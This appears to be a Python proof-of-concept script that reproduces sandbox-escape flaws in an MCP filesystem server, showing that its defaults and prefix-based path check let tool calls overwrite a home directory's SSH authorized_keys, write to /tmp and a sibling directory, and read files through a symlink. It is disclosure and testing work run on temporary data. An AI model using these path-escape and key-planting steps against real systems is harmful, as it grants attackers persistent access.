"""CONFINE-01, -02, -08, -12, -13, -16, -17; SYMLINK-*: fast-filesystem-mcp 3.5.2 allows HOME,
/tmp, /home and /Users whatever it is started with (utils.js DEFAULT_ALLOWED_DIRECTORIES: "Align
defaults with original author intent"); `--allow ROOT` only adds ROOT. Its check is a string
prefix test on path.resolve(), links not resolved (isPathAllowed), so a sibling sharing the
root's prefix and a link out of the root pass it too.

    python3 allowed_everywhere.py    # exit 1: files outside the root were read and written

The root is made outside /tmp and HOME (in /dev/shm when there is one, else beside this file)
so that only the server's defaults, not the root, can allow what happens.
"""

import os
import tempfile
from pathlib import Path

from mcp_stdio import Server, verdict

parent = "/dev/shm" if os.access("/dev/shm", os.W_OK) else str(Path(__file__).parent)
with tempfile.TemporaryDirectory(dir=parent) as base, \
        tempfile.TemporaryDirectory(prefix="fast-fs-repro-") as in_tmp:
    root, home = Path(base, "root"), Path(base, "home")
    sibling, outside = Path(base, "root_evil"), Path(base, "outside")
    for folder in (root, home / ".ssh", sibling, outside):
        folder.mkdir(parents=True)
    keys = home / ".ssh" / "authorized_keys"
    keys.write_text("ssh-ed25519 AAAA the user's key\n")
    (outside / "secret.txt").write_text("outside secret\n")
    (root / "link_out").symlink_to(outside / "secret.txt")
    with Server(root, home=home) as server:
        _, home_write = server.call("fast_write_file", path=str(keys), content="attacker key\n")
        _, tmp_write = server.call("fast_write_file", path=str(Path(in_tmp, "dropped.txt")),
                                   content="x")
        _, sibling_write = server.call("fast_write_file", path=str(sibling / "x.txt"),
                                       content="x")
        _, through_link = server.call("fast_read_file", path="link_out")
    findings = {
        "HOME's authorized_keys rewritten": keys.read_text() == "attacker key\n",
        "a file dropped in /tmp": Path(in_tmp, "dropped.txt").exists(),
        "a file written in the sibling root_evil": (sibling / "x.txt").exists(),
        "a file outside read through a link": "outside secret" in through_link,
    }
    for what, seen in findings.items():
        print(f"{'YES' if seen else 'no '} {what}")
    print(f"answers: {home_write[:80]!r} / {tmp_write[:80]!r} / {sibling_write[:80]!r}")
    verdict(any(findings.values()), "; ".join(w for w, s in findings.items() if s))
